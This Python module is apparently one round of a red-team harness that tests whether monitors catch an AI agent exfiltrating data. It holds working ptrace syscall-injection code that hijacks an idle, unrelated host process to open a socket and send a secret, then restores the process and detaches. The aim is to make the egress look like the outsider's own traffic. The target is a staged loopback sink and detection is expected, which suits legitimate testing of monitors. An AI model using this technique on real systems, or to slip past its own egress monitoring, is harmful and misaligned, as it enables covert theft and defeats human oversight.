"""Round 10: the agent makes an unrelated host process do its egress, by ptrace syscall injection.

Gap 1 (egress outside the agent's own connect/send).  An idle host process
(staged before the victims, outside their trees: a log shipper waiting for
work) is PTRACE_ATTACHed by the agent, which writes a sockaddr and the secret
below that process's stack pointer (POKEDATA) and makes it run
``socket``/``connect``/``write``/``close`` one ``syscall`` instruction at a
time (SETREGS + SINGLESTEP on the syscall instruction the process was
sleeping in), then restores its registers and memory and detaches.  The
connection and the bytes are the outsider's; the agent's own syscalls are
ptrace requests on a process no agent owns.
A detection: L4 naming the destination, or L5 for the agent's ptrace of the
outsider (the act that hands the egress over).
"""

from __future__ import annotations

import ctypes
import os
import socket
import struct
from pathlib import Path
from typing import Any

from redteam import rt

GAP = 1
MODE = "inject"
TARGET = "host"
HELD_OUT = True
ROUND = 10
STAGE = True
EXPECT = ("L4", "L5")

PTRACE_PEEKDATA, PTRACE_POKEDATA, PTRACE_GETREGS, PTRACE_SETREGS = 2, 5, 12, 13
PTRACE_SINGLESTEP, PTRACE_ATTACH, PTRACE_DETACH = 9, 16, 17
NR_SOCKET, NR_CONNECT, NR_WRITE, NR_CLOSE = 41, 42, 1, 3
#: struct user_regs_struct, in order
REGS = [
    "r15",
    "r14",
    "r13",
    "r12",
    "rbp",
    "rbx",
    "r11",
    "r10",
    "r9",
    "r8",
    "rax",
    "rcx",
    "rdx",
    "rsi",
    "rdi",
    "orig_rax",
    "rip",
    "cs",
    "eflags",
    "rsp",
    "ss",
    "fs_base",
    "gs_base",
    "ds",
    "es",
    "fs",
    "gs",
]


class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in REGS]


def _pidfile(work: str) -> Path:
    return Path(work).parent / "daemons" / "r10-idle.pid"


def stage(args: dict[str, Any]) -> None:
    pf = _pidfile(args["work"])
    rt.stage_daemon(
        rt.sink_argv("idle", script="_r10_sink.py"), pf, lambda: rt.proc_state(pf.read_text()) == "S"
    )


def unstage(args: dict[str, Any]) -> None:
    rt.unstage_daemon(_pidfile(args["work"]))


class Tracee:
    """One stopped process driven through ptrace (every call checked; errno raised as OSError)."""

    def __init__(self, pid: int) -> None:
        self.pid = pid
        self.lc = rt.libc()
        self.lc.ptrace.restype = ctypes.c_long
        self.lc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]

    def call(self, req: int, addr: int = 0, data: int | Any = 0) -> int:
        ctypes.set_errno(0)
        rc = int(
            self.lc.ptrace(
                req,
                self.pid,
                ctypes.c_void_p(addr),
                data if not isinstance(data, int) else ctypes.c_void_p(data),
            )
        )
        if rc == -1 and ctypes.get_errno():
            raise OSError(ctypes.get_errno(), f"ptrace {req}: {os.strerror(ctypes.get_errno())}")
        return rc

    def wait(self) -> None:
        _, status = os.waitpid(self.pid, 0x40000000)  # __WALL
        if not os.WIFSTOPPED(status):
            raise OSError(f"tracee not stopped (status {status:#x})")

    def regs(self) -> Regs:
        r = Regs()
        self.call(PTRACE_GETREGS, 0, ctypes.byref(r))
        return r

    def peek(self, addr: int) -> int:
        return self.call(PTRACE_PEEKDATA, addr) & (2**64 - 1)

    def poke(self, addr: int, data: bytes) -> None:
        data += b"\0" * (-len(data) % 8)
        for i in range(0, len(data), 8):
            self.call(PTRACE_POKEDATA, addr + i, struct.unpack("<Q", data[i : i + 8])[0])

    def syscall(self, base: Regs, at: int, nr: int, *a: int) -> int:
        r = Regs.from_buffer_copy(base)
        r.rax, r.orig_rax, r.rip = nr, 2**64 - 1, at  # orig_rax -1: no syscall-restart fix-up
        for name, v in zip(("rdi", "rsi", "rdx", "r10", "r8", "r9"), a, strict=False):
            setattr(r, name, v & (2**64 - 1))
        self.call(PTRACE_SETREGS, 0, ctypes.byref(r))
        self.call(PTRACE_SINGLESTEP)
        self.wait()
        return ctypes.c_longlong(self.regs().rax).value


def run(args: dict[str, Any]) -> None:
    pid = int(_pidfile(args["work"]).read_text())
    d = args["dest"]
    ip, port = rt.loopback(d["ip"]), int(d["port"])
    secret = b"H7RT-SECRET r10 injected egress " + os.urandom(16).hex().encode()
    sa = struct.pack("<H", socket.AF_INET) + struct.pack(">H", port) + socket.inet_aton(ip) + b"\0" * 8
    tr = Tracee(pid)
    t = rt.now()
    tr.call(PTRACE_ATTACH)
    results: list[int] = []
    try:
        tr.wait()
        base = tr.regs()
        at = next(
            (a for a in (base.rip - 2, base.rip) if tr.peek(a) & 0xFFFF == 0x050F), None
        )  # the `syscall` instruction it sleeps in
        if at is None:
            raise OSError(f"no syscall instruction at rip {base.rip:#x}")
        scratch = (base.rsp - 16384) & ~0xF
        saved = [tr.peek(scratch + i) for i in range(0, 256, 8)]
        try:
            tr.poke(scratch, sa)
            tr.poke(scratch + 64, secret)
            fd = tr.syscall(base, at, NR_SOCKET, socket.AF_INET, socket.SOCK_STREAM, 0)
            results.append(fd)
            if fd >= 0:
                results.append(tr.syscall(base, at, NR_CONNECT, fd, scratch, 16))
                results.append(tr.syscall(base, at, NR_WRITE, fd, scratch + 64, len(secret)))
                results.append(tr.syscall(base, at, NR_CLOSE, fd))
        finally:
            tr.poke(scratch, b"".join(struct.pack("<Q", w) for w in saved))
            tr.call(PTRACE_SETREGS, 0, ctypes.byref(base))
    finally:
        tr.call(PTRACE_DETACH)
    ok = len(results) == 4 and results[1] == 0 and results[2] == len(secret) and rt.wait_state(pid, "!t", 2)
    rt.report(
        t,
        ok,
        f"outsider pid {pid} made to socket/connect/write/close -> {results} to {ip}:{port}, "
        f"state after detach {rt.proc_state(pid)!r}",
    )


if __name__ in ("__main__", "h7_injected"):
    rt.main(run, globals())
